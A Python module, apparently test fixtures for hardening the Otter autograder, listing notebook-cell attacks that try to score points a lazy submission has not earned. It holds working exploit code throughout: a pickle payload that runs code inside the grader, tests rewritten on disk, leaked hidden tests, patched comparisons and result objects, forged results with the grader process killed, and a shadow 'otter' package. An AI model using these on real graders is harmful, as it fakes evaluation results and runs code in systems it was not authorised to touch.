"""Attacks on Otter's own way of grading. Each is cells behind `course.LAZY`, which honestly earns one point of ten.

They look for what is there when a student's code, the tests and the results share a process and a folder.
"""

from __future__ import annotations

from dataclasses import dataclass, field

MARK = "THE_MARK"  # replaced by a path outside, which nobody but an attack writes to


@dataclass(frozen=True)
class Attack:
    """`cells` behind the lazy ones, files `beside` the notebook; `wants` says what it is after."""

    cells: tuple[str, ...]
    beside: dict[str, str] = field(default_factory=dict)
    wants: str = "points"  # or "secrets" shown to students, a "mark" outside, a "file" in place of the result


ATTACKS = {
    "comparisons that say yes": Attack(("torch.equal = torch.allclose = lambda *a, **k: True",)),
    "values that lie": Attack(
        (
            """
class Liar(str):
    def __eq__(self, other): return True
    __hash__ = None
class LyingTensor(torch.Tensor):
    @classmethod
    def __torch_function__(cls, *a, **k): return True
def encode(text, char_to_idx):
    return torch.zeros(1).as_subclass(LyingTensor)
def decode(indices, idx_to_char):
    return Liar("?")
""",
        )
    ),
    "tests rewritten on disk": Attack(
        (
            r"""
import re
source = open("tests/batching.py").read()
open("tests/batching.py", "w").write(re.sub("assert .*", "pass", source))
""",
        )
    ),
    "hidden tests told as an error": Attack(
        (
            """
def encode(text, char_to_idx):
    raise ValueError(open("tests/batching.py").read())
""",
        ),
        wants="secrets",
    ),
    "the call of a test replaced": Attack(
        (
            """
def build_vocab(text, honest=build_vocab):
    disarm()
    return honest(text)
def disarm():
    try:
        from otter.test_files.exception_test import test_case
        test_case.call_func = lambda self, env: None
    except ImportError:
        pass
disarm()
""",
        )
    ),
    "results that correct themselves": Attack(
        (
            """
try:
    from otter.execute import Checker
    class Corrected(list):
        def append(self, tests):
            for result in tests.test_case_results:
                result.passed = True
            list.append(self, tests)
    Checker._test_files = Corrected()
except ImportError:
    pass
""",
        )
    ),
    "the right answer from a frame above": Attack(
        (
            """
import sys
def encode(text, char_to_idx):
    frame = sys._getframe(1)
    while frame:
        if "right" in frame.f_globals:
            return frame.f_globals["right"](text)
        frame = frame.f_back
    return torch.zeros(1)
""",
        )
    ),
    "a pickle that runs in the grader": Attack(
        (
            """
import pickle
class Payload:
    def __reduce__(self):
        write = "__import__('pathlib').Path('THE_MARK').write_text('here')"
        results = "__import__('otter.test_files', fromlist=['x']).GradingResults([])"
        return eval, (f"({write}, {results})[1]",)
honest_dump = pickle.dump
pickle.dump = lambda thing, file, *a, **k: honest_dump(Payload(), file)
""",
        ),
        wants="mark",
    ),
    "a log that runs in the grader": Attack(
        ("",),
        beside={".OTTER_LOG": "THE_LOG"},  # a pickle, which the test puts there
        wants="mark",
    ),
    "a result file, and the grader killed": Attack(
        (
            """
import json, os, signal
forged = {"tests": [{"name": "batching", "score": 10, "max_score": 10, "visibility": "visible", "output": ""}]}
try:
    with open("../results/results.json", "w") as file:
        json.dump(forged, file)
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
""",
        ),
        wants="file",
    ),
    "a package that stands in for otter": Attack(
        ("",),
        beside={
            "otter/__init__.py": """
import os, sys
sys.path[:], before = [part for part in sys.path if part and os.path.abspath(part) != os.getcwd()], sys.path[:]
del sys.modules["otter"]
import otter
from otter.test_files.exception_test import test_case
test_case.call_func = lambda self, env: None
sys.path[:] = before
""",
        },
    ),
}
# Not for points: each keeps Otter from any result at all.
SPOILERS = {
    "the kernel dies": "import os\ndef encode(text, char_to_idx):\n    os._exit(0)\n",
    "a loop without end": "def encode(text, char_to_idx):\n    while True:\n        pass\n",
}
